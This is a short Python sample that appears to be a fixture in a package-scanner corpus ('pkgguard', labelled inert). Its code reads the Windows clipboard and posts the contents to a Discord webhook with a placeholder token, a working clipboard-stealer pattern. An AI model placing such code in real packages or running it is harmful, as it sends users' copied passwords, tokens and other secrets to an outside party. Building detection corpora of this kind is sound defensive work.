# pkgguard corpus 057 (clipboard), modelled on [stealer-profile]; inert, never run.
import requests
import win32clipboard

win32clipboard.OpenClipboard()
data = win32clipboard.GetClipboardData()
win32clipboard.CloseClipboard()
requests.post("https://discord.com/api/webhooks/1000000000000000000/placeholder-token-0000000000000000", json={"content": data})
